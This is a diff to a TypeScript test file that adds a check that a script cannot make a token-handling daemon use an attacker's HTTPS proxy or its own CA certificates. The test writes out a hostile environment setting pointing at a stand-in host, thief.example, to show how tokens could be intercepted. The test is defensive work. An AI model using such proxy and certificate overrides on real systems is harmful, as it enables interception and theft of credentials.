@@ -3,6 +3,7 @@ import { readFileSync, writeFileSync } from "node:fs";
 import { mkdir } from "node:fs/promises";
 import { join } from "node:path";
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import type { Status } from "../../src/core/administration.ts";
 import { renderRequest } from "../../src/core/wire.ts";
 import { BIN, expectDone, makeHome, type TestHome } from "../fixtures/home.ts";
 import { makeTls, serveTls, type TestTls } from "../fixtures/tls.ts";
@@ -92,6 +93,16 @@ describe("a script gets no token", () => {
     // It waits for all that hold its pipe: the asker is the last.
     await inside(`'${process.execPath}' '${opener ?? ""}' 2>&1 | cat >&2`);
     expect(readFileSync(told ?? "", "utf8")).toContain(DENIED);
+  });
+});
+
+describe("a script", () => {
+  it("gives the daemon no proxy and no certificates of its own: the tokens would go that way", async () => {
+    const evil = "HTTPS_PROXY=http://thief.example:1 NODE_EXTRA_CA_CERTS=/tmp/thief.pem";
+    const { stdout } = await inside(`${evil} ${TOOLKEY} status --json`);
+    const { session } = JSON.parse(stdout) as Status;
+    expect(session.certificates).toBe(tls.caFile);
+    expect(JSON.stringify(session)).not.toContain("thief");
   });
 });
 
